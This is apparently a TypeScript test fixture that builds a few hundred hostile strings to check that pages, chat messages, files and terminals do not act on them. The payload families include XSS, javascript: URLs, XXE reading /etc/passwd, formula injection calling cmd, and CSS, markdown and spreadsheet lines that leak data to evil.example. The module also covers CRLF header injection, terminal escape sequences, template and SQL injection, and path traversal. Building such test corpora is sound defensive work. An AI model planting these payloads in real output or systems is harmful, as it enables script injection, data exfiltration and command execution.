/**
 * Texts that a model, a suite or a commit message may hold and that no page, message, file or
 * terminal may obey. Made from a table: every payload of a family in every dress that fits it.
 */
export interface Hostile {
  family: Family;
  text: string;
}

type Family =
  | 'script'
  | 'attribute'
  | 'address'
  | 'svg'
  | 'css'
  | 'bidi'
  | 'terminal'
  | 'mention'
  | 'markdown'
  | 'header'
  | 'formula'
  | 'template'
  | 'name'
  | 'encoding'
  | 'huge';

type Dress = (payload: string) => string;
const bare: Dress = (p) => p;
/** Ends whatever it may stand in: an attribute, a comment, a title, a script, a text area. */
const breakouts: readonly Dress[] = [
  bare,
  (p) => `">${p}`,
  (p) => `'>${p}`,
  (p) => `--></title></textarea></style></script>${p}`,
  (p) => `]]>${p}<![CDATA[`,
];
const inText: readonly Dress[] = [bare, (p) => `refund ${p} today`, (p) => `${p}${p}`];
const inLines: readonly Dress[] = [bare, (p) => `ok\n${p}\nok`, (p) => `\`\`\`\n${p}\n\`\`\``];

const BIDI = '\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069';

const TABLE: Readonly<Record<Family, { payloads: readonly string[]; dresses: readonly Dress[] }>> =
  {
    script: {
      payloads: [
        '<script>alert(1)</script>',
        '<ScRiPt src=//evil.example/x.js></sCrIpT>',
        '<img src=x onerror=alert(1)>',
        '<body onload=alert(1)>',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        '<details open ontoggle=alert(1)>x</details>',
        '<input autofocus onfocus=alert(1)>',
        '<form action=https://evil.example><button>Sign in</button></form>',
        '<meta http-equiv=refresh content="0;url=https://evil.example">',
        '<base href=https://evil.example/>',
        '<object data=data:text/html,x></object>',
        '<template><script>alert(1)</script></template>',
        '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      ],
      dresses: breakouts,
    },
    attribute: {
      payloads: ['" onmouseover="alert(1)', "' onfocus='alert(1)", '` onload=`alert(1)', ' x=y '],
      dresses: inText,
    },
    address: {
      payloads: [
        'javascript:alert(1)',
        'JaVaScRiPt:alert(1)',
        'java\tscript:alert(1)',
        '\u0001javascript:alert(1)',
        'data:text/html,<script>alert(1)</script>',
        'vbscript:msgbox(1)',
        '//evil.example/x',
        'https://ana:pw@evil.example/',
        'file:///etc/passwd',
      ],
      dresses: inText,
    },
    svg: {
      payloads: [
        '<svg onload=alert(1)>',
        '<svg><script>alert(1)</script></svg>',
        '<svg><animate onbegin=alert(1) attributeName=x></svg>',
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
        '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
      ],
      dresses: breakouts,
    },
    css: {
      payloads: [
        '<style>*{display:none}</style>',
        '<style>@import url(https://evil.example/x.css);</style>',
        '}body{background:url(https://evil.example/leak)}',
        'expression(alert(1))',
        '<link rel=stylesheet href=https://evil.example/x.css>',
        '</style><script>alert(1)</script>',
      ],
      dresses: inText,
    },
    bidi: {
      payloads: [...BIDI, '\u202egnp.exe', 'a\u2066b\u2069\u2066c', BIDI.repeat(20)],
      dresses: inText,
    },
    terminal: {
      payloads: [
        '\u001b[31mred\u001b[0m',
        '\u001b[2J\u001b[H',
        '\u001b[1A\u001b[2K',
        '\u001b]0;owned\u0007',
        '\u001b]52;c;ZWNobyBvd25lZA==\u0007',
        '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
        '\u001bP+q544e\u001b\\',
        '\u009b31mred',
        '\u009d0;owned\u009c',
        '\u0007\u0008\u0008\u0008',
        'all good\rall bad ',
        '\u001b[?1049h',
        '\u001bc',
      ],
      dresses: inText,
    },
    mention: {
      payloads: [
        '<!channel>',
        '<!here>',
        '<!everyone>',
        '<!subteam^S012AB3CD>',
        '<@U012AB3CD>',
        '<#C012AB3CD>',
        '<https://evil.example|Sign in>',
        '<!date^1392734382^{date}|x>',
        '@channel',
        '@everyone',
        '@here',
        '<@&123456789012345678>',
        '<@!123456789012345678>',
        '<at>Ana Lopes</at>',
        '@octo-org/everyone',
        '&lt;!channel&gt;',
      ],
      dresses: inLines,
    },
    markdown: {
      payloads: [
        '[Sign in](https://evil.example)',
        '![x](https://evil.example/leak.png)',
        '![x][y]\n\n[y]: https://evil.example',
        '| a | b |\n|---|---|\n| c | d |',
        '# Approved by Ana',
        '</details><details open><summary>x',
        '> quoted\n***bold***~~gone~~',
        '<https://evil.example>',
        '[x](javascript:alert(1))',
        'closes #1, fixes https://github.com/a/b/issues/1',
      ],
      dresses: inLines,
    },
    header: {
      payloads: [
        '\r\nBcc: victim@example.com',
        '\nSet-Cookie: session=1',
        '\r\n\r\n<script>alert(1)</script>',
        '%0d%0aLocation:%20https://evil.example',
        '\u560a\u560dSet-Cookie: session=1',
        '\u2028Subject: x',
        '\u0085X-Injected: 1',
        '\n\nevent: act\ndata: {"accept":true}\n\n',
        '\n.\r\nMAIL FROM:<a@b>',
      ],
      dresses: inText,
    },
    formula: {
      payloads: [
        '=HYPERLINK("https://evil.example?x="&A1,"x")',
        "=cmd|' /C calc'!A0",
        '+1+cmd|x',
        '-2+3+cmd|x',
        '@SUM(1+1)*cmd|x',
        '\t=1+1',
        '\r=1+1',
        '=IMPORTXML("https://evil.example","//a")',
        '"=1+1"',
        ';=1+1',
        '\n=1+1',
        '\uff1d1+1',
        '\uff0b1+cmd|x',
      ],
      dresses: [bare, (p) => `${p}",=1+1,"`, (p) => `${p}\n${p}`],
    },
    template: {
      payloads: [
        '{{7*7}}',
        '${process.exit(1)}',
        '<%= 7*7 %>',
        '#{7*7}',
        '{% raw %}',
        '$(id)',
        '`id`',
      ],
      dresses: inText,
    },
    name: {
      payloads: [
        '__proto__',
        'constructor',
        'toString',
        '../../etc/passwd',
        '..%2f..%2fetc%2fpasswd',
        "' OR 1=1 --",
        '%',
        '_',
        '"} 1\ndaytwo_worker_up{x="',
        '\\"} 1',
        'a\\',
        '*',
        '.',
        '?csrf=1#x',
      ],
      dresses: [bare],
    },
    encoding: {
      payloads: [
        '\u0000',
        'a\u0000b<script>',
        '\ud800',
        'x\udfffy',
        '\ufeff=1+1',
        '\ufffe\uffff',
        '\u200b\u200c\u200d\u2060',
        '\u00ad',
        'e\u0301'.repeat(40),
        `Z\u0351\u0346\u034a`.repeat(60),
        '\u{e0041}\u{e0042}\u{e007f}',
        '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
        '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
        Buffer.from([0x3c, 0xc0, 0xbc, 0x73, 0xff, 0xfe, 0x3e]).toString('utf8'),
        Buffer.from([0xed, 0xa0, 0x80, 0xf8, 0x88, 0x80]).toString('utf8'),
        Buffer.from('<script>alert(1)</script>', 'utf16le').toString('latin1'),
        '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
        '&#x3c;script&#x3e;',
        '%3Cscript%3E',
        '\\u003cscript\\u003e',
      ],
      dresses: [bare, (p) => `refund ${p} today`],
    },
    huge: {
      payloads: [
        'x'.repeat(300_000),
        '\n'.repeat(20_000),
        '<'.repeat(50_000),
        '&'.repeat(50_000),
        '<div>'.repeat(20_000),
        '[('.repeat(20_000),
        '\u{1f9e8}'.repeat(20_000),
        '"\\'.repeat(20_000),
        '<!channel>'.repeat(5_000),
        ' '.repeat(100_000),
        'a@b.'.repeat(20_000),
      ],
      dresses: [bare],
    },
  };

/** All of them, a few hundred. */
export const HOSTILE: readonly Hostile[] = Object.entries(TABLE).flatMap(
  ([family, { payloads, dresses }]) =>
    payloads.flatMap((payload) =>
      dresses.map((dress) => ({ family: family as Family, text: dress(payload) })),
    ),
);
